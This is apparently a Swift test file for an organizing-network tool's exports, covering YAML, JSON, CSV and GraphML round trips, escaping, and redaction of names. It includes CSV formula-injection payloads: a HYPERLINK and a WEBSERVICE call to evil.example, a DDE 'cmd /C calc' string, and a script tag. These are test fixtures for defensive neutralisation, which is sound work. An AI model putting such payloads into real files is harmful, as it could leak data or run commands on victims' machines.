import Foundation
import ShopfloorModel
import ShopfloorTestSupport
import Testing
@testable import ShopfloorStore

@Suite("Export: graph files, CSV, GraphML, scopes and aliases")
struct ExportTests {
    private func workspaceGraph() throws -> (OrganizingGraph, String) {
        let path = try Scratch.folder() + "/w.shopfloor"
        let workspace = try Workspace.makeForTest(at: path)
        let imported = try SpreadsheetImport.run(paths: [Fixture.path("gebze.yaml")] + Fixture.libreOffice("comma"),
            into: OrganizingGraph()).graph
        try workspace.replaceGraph(with: imported, action: "test")
        return (try workspace.graph(), try workspace.aliasSecret())
    }

    @Test("import → export → import gives the same graph", arguments: [ExportFormat.yaml, .json, .csv])
    func roundTrip(format: ExportFormat) throws {
        let (graph, _) = try workspaceGraph()
        let dir = try Scratch.folder()
        let out = dir + "/export." + (format == .csv ? "csv.d" : format.rawValue)
        try format.write(graph, to: out)
        let paths: [String]
        if format == .csv {
            paths = CSVWriter.files(of: graph).map { out + "/" + $0.name }
        } else {
            paths = [out]
        }
        let again = try SpreadsheetImport.run(paths: paths, into: OrganizingGraph()).graph
        var reloaded = Canonical(again)
        // A folder of CSV files has no place for the graph's title; everything else must come back.
        if format == .csv { reloaded.name = graph.name }
        #expect(reloaded == Canonical(graph))
        print("round trip \(format.rawValue): \(Canonical(graph)) → \(Canonical(again)), equal: \(reloaded == Canonical(graph))")
        // Writing twice gives the same bytes.
        if format != .csv {
            let first = try Data(contentsOf: URL(fileURLWithPath: out))
            try format.write(graph, to: out)
            #expect(try Data(contentsOf: URL(fileURLWithPath: out)) == first)
        }
    }

    /// Strings that break naive YAML or JSON writers: quotes, escapes, YAML words and indicators, line
    /// separators, control characters, emoji and Turkish letters.
    static let hostile = [
        "Ali \"Usta\" O'Brien", "back\\slash \\n not a newline", "line one\nline two\r\n\tindented", "yes", "null",
        "~", "1e5", "0x1F", "- dash", "key: value", "# not a comment", "[flow, list]", "{a: b}", "&anchor *alias",
        "!tag", "| block", "> folded", "  leading and trailing  ", "", "Şükrü Güneş İğdır ıi", "🔥✊🏽", "nel\u{85}x",
        "ls\u{2028}ps\u{2029}", "bom\u{FEFF}", "bell\u{07}del\u{7F}", "<script>alert(1)</script>", "%YAML 1.2", "---",
    ]

    @Test("hostile strings survive export and reload unchanged", arguments: [ExportFormat.yaml, .json])
    func hostileStrings(format: ExportFormat) throws {
        let home = Place(id: "home-1", kind: .neighbourhood, name: Self.hostile[0], district: Self.hostile[3])
        let people = Self.hostile.enumerated().map { i, text in
            Person(id: Person.ID("p\(i)"), name: text.isEmpty ? "empty-name" : text, home: "home-1",
                address: text, tags: [text, "plain"], notes: text)
        }
        let graph = OrganizingGraph(name: Self.hostile[2], people: people, places: [home])
        #expect(graph.violations().isEmpty)
        let out = try Scratch.folder() + "/hostile." + format.rawValue
        try format.write(graph, to: out)
        let again = try GraphFile.load(path: out)
        #expect(Canonical(again) == Canonical(graph))
        for (before, after) in zip(graph.people, again.people) {
            #expect(after.name == before.name)
            #expect(after.address == before.address)
            #expect(after.notes == before.notes)
            #expect(after.tags == before.tags)
        }
    }

    /// Cell values that spreadsheet programs run as formulas when a CSV starts a cell with them [OWASP].
    static let formulas = ["=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Ayşe\")", "+WEBSERVICE(\"http://evil.example\")",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tTab first", "\rCR first"]

    @Test("CSV export neutralises every cell a spreadsheet would run, and import reads the original back")
    func csvFormulas() throws {
        let places = Self.formulas.enumerated().map { i, text in
            Place(id: Place.ID("n\(i)"), kind: .neighbourhood, name: text, district: text)
        }
        let people = Self.formulas.enumerated().map { i, text in
            Person(id: Person.ID("p\(i)"), name: text, home: Place.ID("n\(i)"), tags: [text], notes: text)
        }
        var workplace = Workplace(id: "w", name: Self.formulas[0], headcount: 10)
        workplace.sector = Self.formulas[1]
        workplace.employer = Self.formulas[3]
        workplace.union = Union(name: Self.formulas[2], character: .yellow)
        let graph = OrganizingGraph(name: "formulas", workplaces: [workplace], people: people, places: places)
        #expect(graph.violations().isEmpty)
        let out = try Scratch.folder() + "/formulas.d"
        try ExportFormat.csv.write(graph, to: out)
        var cells = 0
        for file in CSVWriter.files(of: graph) {
            let data = try Data(contentsOf: URL(fileURLWithPath: out + "/" + file.name))
            #expect(data.starts(with: [0xEF, 0xBB, 0xBF]), "\(file.name) has no byte-order mark")
            let table = try CSVTable.parse(data: data, path: file.name)
            // What a spreadsheet sees: the raw fields, before Shopfloor's import takes the guard off again.
            let raw = try CSVTable.split(String(decoding: data.dropFirst(3), as: UTF8.self), delimiter: ",", path: file.name)
            for field in raw.flatMap(\.fields) {
                cells += 1
                let first = field.unicodeScalars.first.map(Character.init)
                #expect(first.map { !"=+-@\t\r".contains($0) } ?? true, "\(file.name): a spreadsheet would run \(field)")
            }
            #expect(table.records.count == raw.count - 1)
        }
        #expect(cells > 50)
        let again = try SpreadsheetImport.run(paths: CSVWriter.files(of: graph).map { out + "/" + $0.name },
            into: OrganizingGraph()).graph
        // Names starting with =, +, - or @ come back as they were (the import trims a leading tab and reads a
        // line break inside a field as LF, as it does for any CSV).
        #expect(again.people.map(\.name).prefix(4) == graph.people.map(\.name).prefix(4))
        #expect(again.places.map(\.name).prefix(4) == graph.places.map(\.name).prefix(4))
        #expect(again.workplaces.first?.union?.name == Self.formulas[2])
        #expect(again.workplaces.first?.sector == Self.formulas[1])
    }

    @Test("without --reveal-names no name, address or note leaves; aliases are stable and the file still loads")
    func redaction() throws {
        let (graph, secret) = try workspaceGraph()
        let aliases = PersonAliases(graph: graph, key: AliasKey(secret: secret))
        let redacted = Redaction(aliases: aliases).apply(to: graph)
        let text = try GraphFileWriter.text(of: redacted, format: .yaml)
        for p in graph.people {
            #expect(!text.contains(p.name), "name \(p.name) leaked")
            #expect(!text.contains("\"\(p.id.rawValue)\""), "id \(p.id) leaked")
        }
        #expect(!text.contains("Lale Sk"))
        #expect(!text.contains("May Day"))
        let path = try Scratch.folder() + "/redacted.yaml"
        try Data(text.utf8).write(to: URL(fileURLWithPath: path))
        let loaded = try GraphFile.load(path: path)
        #expect(loaded.people.count == graph.people.count)
        #expect(loaded.ties.count == graph.ties.count)
        // The export's ids are the aliases of the one scheme (the same as maps and plans show), keyed by the secret.
        #expect(Set(loaded.people.map(\.id)) == Set(graph.people.map { Person.ID(aliases.alias($0.id)) }))
        let other = PersonAliases(graph: graph, key: AliasKey(secret: "another-secret-0123456789"))
        #expect(aliases.alias("ayse-k") != other.alias("ayse-k"))
    }

    @Test("--scope cell:ID writes the members, the people tied to them, and the targets, and loads on its own")
    func cellScope() throws {
        let (graph, _) = try workspaceGraph()
        let part = try ExportScope.cell("kirazli-street").apply(to: graph, path: "w")
        #expect(part.violations().isEmpty)
        #expect(Set(part.people.map(\.id)) == ["mehmet-d", "zeynep-a", "ali-r", "ayse-k", "hasan-b"])
        #expect(part.cells.map(\.id) == ["kirazli-street"])
        #expect(part.workplace("anadolu-oto") != nil)
        #expect(part.workplace("kazan-metal") == nil)
        #expect(part.ties.count == 2)
        #expect(part.contacts.count == 2)
        let plant = try ExportScope.workplace("anadolu-oto").apply(to: graph, path: "w")
        #expect(plant.violations().isEmpty)
        #expect(plant.people.count == 5)
        #expect(throws: StoreError.self) { try ExportScope.cell("nope").apply(to: graph, path: "w") }
    }

    @Test("GraphML is read back by networkx with its attributes",
        .enabled(if: Tool.hasNetworkx, "needs python3 with networkx (apt install python3-networkx)"))
    func graphMLWithNetworkx() throws {
        let (graph, secret) = try workspaceGraph()
        let path = try Scratch.folder() + "/g.graphml"
        try ExportFormat.graphml.write(Redaction(aliases: PersonAliases(graph: graph, key: AliasKey(secret: secret))).apply(to: graph),
            to: path)
        let script = """
            import sys
            import networkx as nx
            g = nx.read_graphml(sys.argv[1])
            people = [n for n, d in g.nodes(data=True) if d.get("type") == "person"]
            ties = [e for e in g.edges(data=True) if e[2].get("type") == "tie"]
            a = [d["assessment"] for n, d in g.nodes(data=True) if d.get("type") == "person"]
            print(len(people), len(ties), type(a[0]).__name__, g.is_multigraph())
            """
        let result = try Subprocess.run(try #require(Tool.path("python3")), ["-c", script, path])
        let out = result.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(result.status == 0, "python3 said: \(result.stderr)")
        #expect(out == "\(graph.people.count) \(graph.ties.count) int True", "networkx said: \(out)")
    }
}

@Suite("Round trips of the sample graphs through a workspace")
struct SampleRoundTripTests {
    @Test("graph file → workspace → export → import gives the graph file's graph", arguments: Sample.allCases)
    func sample(sample: Sample) throws {
        let file = sample.path
        let name = sample.relativePath
        let original = try GraphFile.load(path: file)
        let path = try Scratch.folder() + "/w.shopfloor"
        let workspace = try Workspace.makeForTest(at: path)
        try workspace.replaceGraph(with: try SpreadsheetImport.run(paths: [file], into: OrganizingGraph()).graph, action: "test")
        let stored = try Workspace.open(at: path, passphrase: { "" }).graph()
        #expect(Canonical(stored) == Canonical(original))
        for format in [ExportFormat.yaml, .json, .csv] {
            let out = try Scratch.folder() + "/export"
            try format.write(stored, to: out)
            let paths = format == .csv ? CSVWriter.files(of: stored).map { out + "/" + $0.name } : [out + "." + format.rawValue]
            if format != .csv { try FileManager.default.moveItem(atPath: out, toPath: paths[0]) }
            var again = Canonical(try SpreadsheetImport.run(paths: paths, into: OrganizingGraph()).graph)
            if format == .csv { again.name = original.name }
            #expect(again == Canonical(original), "\(format.rawValue) round trip of \(name)")
            print("round trip \(name) via \(format.rawValue): \(Canonical(original)) → \(again), equal: \(again == Canonical(original))")
        }
    }
}
